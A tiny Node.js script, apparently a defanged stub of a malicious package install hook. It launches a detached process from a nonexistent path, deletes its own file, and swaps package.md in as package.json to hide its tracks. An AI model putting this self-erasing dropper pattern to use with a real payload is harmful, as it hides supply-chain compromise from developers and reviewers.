const fs = require('fs'), path = require('path'), { spawn } = require('child_process');
spawn('/nonexistent/run', [], { detached: true }).unref();
fs.unlinkSync(__filename);
fs.renameSync(path.join(__dirname, 'package.md'), path.join(__dirname, 'package.json'));
